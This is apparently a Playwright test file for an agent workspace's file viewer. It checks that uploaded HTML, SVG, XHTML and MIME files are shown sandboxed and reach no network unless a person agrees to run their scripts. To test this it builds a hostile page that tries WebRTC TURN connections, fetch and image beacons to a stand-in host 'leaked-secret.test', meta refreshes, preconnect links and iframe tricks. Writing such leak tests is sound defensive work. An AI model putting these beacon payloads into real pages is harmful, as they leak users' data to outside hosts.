"""HTML and its relatives on the page: nothing of a workspace reaches the network by being shown."""

# ruff: noqa: E501  # lines of HTML, as they are sent

import contextlib
import socket
import threading
from collections.abc import Generator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect, sync_playwright

from openmanus_graph.backends.browser.browsers import find_browser
from openmanus_graph.backends.charts.report import FOLDER, digest_of
from tests.support.openai_script import Call, Reply
from tests.support.page import PATIENCE_MS, Desk, Tab, served_page
from tests.support.zygote import Zygote

pytestmark = pytest.mark.slow

HOST = "leaked-secret.test"
"""What is in every address of these files; the browser's log of its network must not have it."""
CONNECTING = "link, meta, base, iframe, frame, object, embed"
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
SALES = "month,sold\n" + "".join(f"2026-{month:02d},{month * month}\n" for month in range(1, 13))


@dataclass
class Listener:
    """A place of an attacker's that takes TCP and UDP, and notes that somebody came."""

    port: int
    came: list[str] = field(default_factory=list[str])
    first: threading.Event = field(default_factory=threading.Event)

    def note(self, how: str) -> None:
        self.came.append(how)
        self.first.set()


@contextlib.contextmanager
def listener() -> Generator[Listener]:
    with (
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(type=socket.SOCK_DGRAM) as udp,
    ):
        port = tcp.getsockname()[1]
        udp.bind(("127.0.0.1", port))
        found = Listener(port)

        def take_tcp() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, _ = tcp.accept()
                    connection.close()
                    found.note("TCP")

        def take_udp() -> None:
            with contextlib.suppress(OSError):
                while udp.recv(2048):
                    found.note("UDP")

        threads = [threading.Thread(target=take, daemon=True) for take in (take_tcp, take_udp)]
        for thread in threads:
            thread.start()
        try:
            yield found
        finally:
            tcp.shutdown(socket.SHUT_RDWR)
            udp.sendto(b"", ("127.0.0.1", port))
            for thread in threads:
                thread.join(5)


def script(port: int) -> str:
    """Return what scripts try: WebRTC needs no host, and heeds no policy."""
    return f"""
      const to = "turn:127.0.0.1:{port}?transport=";
      const turn = {{ urls: [to + "udp", to + "tcp"], username: "secret", credential: "x" }};
      const peer = new RTCPeerConnection({{ iceServers: [turn] }});
      peer.createDataChannel("x");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
      fetch("http://{HOST}:{port}/").catch(() => 0);
      new Image().src = "http://{HOST}:{port}/";
      setTimeout(() => {{ location = "http://{HOST}:{port}/moved"; }}, 1000);"""


def hostile(port: int) -> str:
    """Return a page that tries to reach a port in every way that we know of, twice over."""
    one = f"http://{HOST}:{port}"
    address = f"http://127.0.0.1:{port}/x"
    links = "".join(
        f'<{tag} rel="{rel}" as="image" crossorigin href="{place}">'
        for rel in (
            "preconnect", "dns-prefetch", "prefetch", "preload", "prerender", "modulepreload",
            "stylesheet", "icon", "manifest", "preconnect dns-prefetch", "search", "import",
            "compression-dictionary", "next", "pingback", "expect",
        )
        for place in (one, address)
        for tag in ("link", "LiNk", "link\f", "link/", "link\n")
    )  # fmt: skip
    escaped = links.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>page</title>{links}
<base href="{one}/"><meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="refresh" content="0;url={one}/refresh"><META HTTP-EQUIV=refresh CONTENT="0;{address}">
<meta http-equiv="Link" content="<{one}>; rel=preconnect">
<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{one}/s"]}}],
"prerender":[{{"source":"list","urls":["{address}"]}}]}}</script>
<style>@import url("{one}/i.css"); @font-face {{ font-family: x; src: url("{address}") }}
body {{ background: url("{one}/b.png"); font-family: x; cursor: url("{address}"), auto }}
p::before {{ content: url("{one}/c.png") }}</style>
<script>{script(port)}</script></head><body background="{address}" onload="{script(port)}">
<p id="shown">kept apart</p><a href="{one}/a" ping="{one}/ping" target="_blank">a link</a><a href="//{HOST}">b</a>
<img src="{one}/1.png" srcset="{address} 2x" onerror="{script(port)}"><picture><source srcset="{address}"><img></picture>
<video src="{one}/v.mp4" poster="{address}" autoplay preload="auto"></video><audio src="{address}" autoplay></audio>
<svg><image href="{one}/2.png"/><use href="{address}#x"/><script>{script(port)}</script>
<foreignObject><body {XHTML}>{links}<iframe srcdoc="{escaped}"></iframe></body></foreignObject></svg>
<math><mtext>{links}</mtext></math><object data="{one}/o"></object><embed src="{address}"><iframe src="{one}/f"></iframe>
<object data="data:text/html,{quote(links)}"></object><iframe src="data:text/html,{quote(links)}"></iframe>
<iframe srcdoc="{escaped}"></iframe><iframe srcdoc="&lt;script&gt;{script(port).replace('"', "&quot;")}&lt;/script&gt;"></iframe>
<form action="{one}/form" id="f"><input name="q" autofocus onfocus="{script(port)}"><input type="image" src="{address}"></form>
<noscript>{links}</noscript><div><template shadowrootmode="open">{links}</template></div><table><tr>{links}</table>
<select>{links}</select><textarea>{links}</textarea>{links}<input list="x" src="{one}">
<details ontoggle="{script(port)}" open>x</details><marquee onstart="{script(port)}">x</marquee></body></html>"""


def files(port: int) -> dict[str, str]:
    """Return the same in all kinds of files that browsers show as pages."""
    page, one = hostile(port), f"http://{HOST}:{port}"
    inner = (
        f'<h:body xmlns:h="http://www.w3.org/1999/xhtml"><h:link rel="preconnect" href="{one}"/>'
    )
    inner += f'<h:link rel="dns-prefetch" href="{one}"/><h:iframe src="{one}"/></h:body>'
    svg = (
        f'<?xml-stylesheet type="text/css" href="{one}"?><svg xmlns="http://www.w3.org/2000/svg" '
        f'onload="x()" width="80" height="80"><script><![CDATA[{script(port)}]]></script>'
        f'<image href="{one}/i.png" width="9" height="9"/><rect width="80" height="80" fill="green"/>'
        f"<foreignObject>{inner}</foreignObject></svg>"
    )
    xhtml = (
        f"<?xml version=\"1.0\"?><!DOCTYPE html [<!ENTITY l \"&#60;link rel='preconnect' href='{one}'/>\">]>"
        f"<html {XHTML}><head><title>x</title>&l;<script>//<![CDATA[\n{script(port)}\n//]]></script>"
        f'</head><body><link rel="preconnect" href="{one}"/><p>x</p></body></html>'
    )
    xsl = f'<?xml-stylesheet type="text/xsl" href="sheet.xsl"?><x><link rel="preconnect" href="{one}"/></x>'
    mime = f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{page}"
    return {
        "page.html": page, "page.htm": page, "page.shtml": page, "page.xhtml": xhtml,
        "page.xht": xhtml, "wrong.xhtml": page, "picture.svg": svg, "data.xml": xsl, "feed.rss": xsl,
        "sheet.xsl": xsl, "text.xml": xhtml, "letter.mht": mime, "letter.mhtml": mime,
        "letter.eml": mime, "page": page, "page.txt": page, "page.md": page, "picture.png": page,
        "page.html.txt": page, "page.pdf": page, "page.hta": page, "page.html;x": page,
        "page.HTML": page, "page.json": page, "wide.html": page,
    }  # fmt: skip


@dataclass
class Stage:
    """A thread with these files, the page that shows it, and what must see nothing."""

    desk: Desk
    tab: Tab
    thread: str
    listener: Listener
    log: Path

    def show(self, name: str) -> FrameLocator:
        """Open a file as a person does."""
        if self.tab.page.get_by_role("dialog").is_visible():
            self.tab.page.keyboard.press("Escape")
        self.tab.page.locator(".files").get_by_role("button", name=name, exact=False).first.click()
        return self.tab.page.get_by_role("dialog").frame_locator("iframe")


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("html")


@pytest.fixture(scope="module")
def desk_and_log(root: Path, zygote: Zygote) -> Generator[tuple[Desk, Path]]:
    log = root / "network.json"
    with served_page(root, zygote) as (served, model), sync_playwright() as playwright:
        args = ["--no-sandbox", f"--log-net-log={log}", "--net-log-capture-mode=IncludeSensitive"]
        browser: Browser = playwright.chromium.launch(executable_path=find_browser(None), args=args)
        try:
            yield Desk(served, model, browser), log
        finally:
            browser.close()


@pytest.fixture(scope="module")
def stage(desk_and_log: tuple[Desk, Path]) -> Generator[Stage]:
    desk, log = desk_and_log
    chart = {"csvFilePath": "sales.csv", "chartTitle": "Sales", "chartType": "line"}
    prepare = (
        f"import json; open('sales.csv', 'w').write({SALES!r});"
        f"json.dump([{chart!r}], open('charts.json', 'w'))"
    )
    desk.model.add(
        Reply(calls=(Call("python_execute", {"code": prepare}),)),
        Reply(calls=(Call("data_visualization", {"json_path": "charts.json"}),)),
        Reply("Drawn."),
    )
    with listener() as found:
        tab = desk.tab()
        thread = tab.start("Draw a chart.", agent="data_analysis")
        tab.until("Finished")
        for name, text in files(found.port).items():
            content = text.encode("utf-16") if name == "wide.html" else text.encode()
            path = f"/app/api/threads/{thread}/files/{quote(name)}"
            assert desk.ask("PUT", path, content=content).status_code == 201
        tab.page.reload()
        tab.page.get_by_role("tab", name="Files").click()
        try:
            yield Stage(desk, tab, thread, found, log)
        finally:
            tab.context.close()


def listed(stage: Stage) -> dict[str, dict[str, str]]:
    answer = stage.desk.ask("GET", f"/app/api/threads/{stage.thread}/files").json()
    return {file["path"]: file for file in answer["files"]}


def settled(page: Page, ms: float = 1500) -> None:
    """Let a browser do what it does by itself after a page was shown."""
    page.wait_for_timeout(ms)


def test_nothing_that_is_shown_reaches_the_network_unless_a_person_agrees(stage: Stage) -> None:
    page = stage.tab.page
    for name, file in listed(stage).items():
        stage.show(name)
        if file["view"] == "html" and not name.startswith("visualization/"):
            text = "This page is shown without its scripts"
            expect(page.get_by_role("dialog")).to_contain_text(text)
            shown = page.get_by_role("dialog").frame_locator("iframe").locator("#shown")
            expect(shown).to_have_text("kept apart")
            settled(page, 300)
            # This browser opens no connections for `preconnect`, as those of people do.
            connecting = page.get_by_role("dialog").frame_locator("iframe").locator(CONNECTING)
            assert connecting.count() == 0
    stage.show("picture.svg")
    drawn = page.get_by_role("dialog").locator("img").evaluate("(img) => img.naturalWidth")
    assert drawn == 80, "a drawing is shown as a picture, where nothing of it runs"
    settled(page)
    # The same as a frame without any limits would show it, and as what a tab shows.
    for file in listed(stage).values():
        if not file["path"].startswith("visualization/"):
            page.evaluate(
                """(url) => { const frame = document.createElement("iframe");
                frame.src = url; document.body.append(frame) }""",
                file["url"],
            )
    settled(page)
    direct = stage.tab.context.new_page()
    for file in listed(stage).values():
        with contextlib.suppress(Exception):  # most are saved as files
            direct.goto(stage.desk.served.url + file["url"], timeout=5000)
    for file in listed(stage).values():  # of a browser that does not say for what it asks
        route = stage.desk.served.url + file["url"]
        answer = stage.desk.ask("GET", file["url"])
        policy = answer.headers["content-security-policy"]
        ours = file["path"] == "visualization/Sales.html"
        assert ("allow-scripts" in policy) == ours, file["path"]
        assert ("attachment" in answer.headers["content-disposition"]) or (
            answer.headers["content-type"].split("/")[0] in ("image", "audio", "video")
            or file["view"] == "html"
        ), route
    settled(direct)
    direct.close()
    assert stage.listener.came == []
    assert HOST not in stage.log.read_text("utf-8", "replace")

    stage.show("page.html")
    page.get_by_role("button", name="Run its scripts").click()
    assert stage.listener.first.wait(PATIENCE_MS / 1000), "with its scripts it does reach it"
    assert "UDP" in stage.listener.came or "TCP" in stage.listener.came


def test_our_own_charts_show_interactively_and_others_like_them_do_not(
    stage: Stage, root: Path
) -> None:
    page = stage.tab.page
    shown = stage.show("visualization/Sales.html")
    expect(shown.locator("svg.marks")).to_be_visible()
    expect(shown.locator(".vega-embed summary")).to_be_visible()
    page.screenshot(path=root / "chart.png")
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 800})
        fits = """async (svg) => {
            const fit = () => ['Width', 'Height'].every((side) =>
                document.documentElement[`scroll${side}`] <= window[`inner${side}`])
                && svg.getBoundingClientRect().right <= innerWidth;
            for (let frames = 0; frames < 100 && !fit(); frames += 1) {
                await new Promise(requestAnimationFrame);
            }
            return fit();
        }"""
        assert shown.locator("svg.marks").evaluate(fits), width
    page.set_viewport_size({"width": 1280, "height": 800})
    dialog = page.get_by_role("dialog")
    assert dialog.get_by_text("without its scripts").count() == 0
    url = listed(stage)["visualization/Sales.html"]["url"]
    drawn = stage.desk.ask("GET", url).content
    kept = stage.desk.served.home / "threads" / stage.thread / FOLDER
    assert [one.name for one in kept.iterdir()] == [digest_of(drawn)]

    for name, content in (
        ("visualization/Sales.html", drawn + b" "),
        ("like.html", drawn.replace(b"Sales", b"Sells")),
    ):
        put = f"/app/api/threads/{stage.thread}/files/{name}?replace=1"
        assert stage.desk.ask("PUT", put, content=content).status_code == 201
        policy = stage.desk.ask("GET", listed(stage)[name]["url"]).headers[
            "content-security-policy"
        ]
        assert policy.startswith("sandbox; ")
    page.reload()
    page.get_by_role("tab", name="Files").click()
    changed = stage.show("like.html")
    expect(dialog).to_contain_text("without its scripts")
    assert changed.locator("svg.marks").count() == 0
    page.get_by_role("button", name="Run its scripts").click()
    expect(changed.locator("svg.marks")).to_be_visible()


def test_scripts_run_only_in_the_file_that_was_agreed_to(stage: Stage) -> None:
    ask, base = stage.desk.ask, f"/app/api/threads/{stage.thread}"
    agreed = ask("POST", f"{base}/scripts/page.html").json()["url"]
    policy = ask("GET", agreed).headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'")
    other = agreed.replace("page.html", "page.htm")
    assert ask("GET", other).status_code == 403
    ask("PUT", f"{base}/files/page.html?replace=1", content=b"<script>other()</script>")
    assert ask("GET", agreed).headers["content-security-policy"].startswith("sandbox; ")
    stranger = stage.desk.served.url + f"{base}/scripts/page.html"
    assert stage.tab.context.request.post(stranger).status == 401
    assert ask("POST", f"{base}/scripts/none.html").status_code == 404
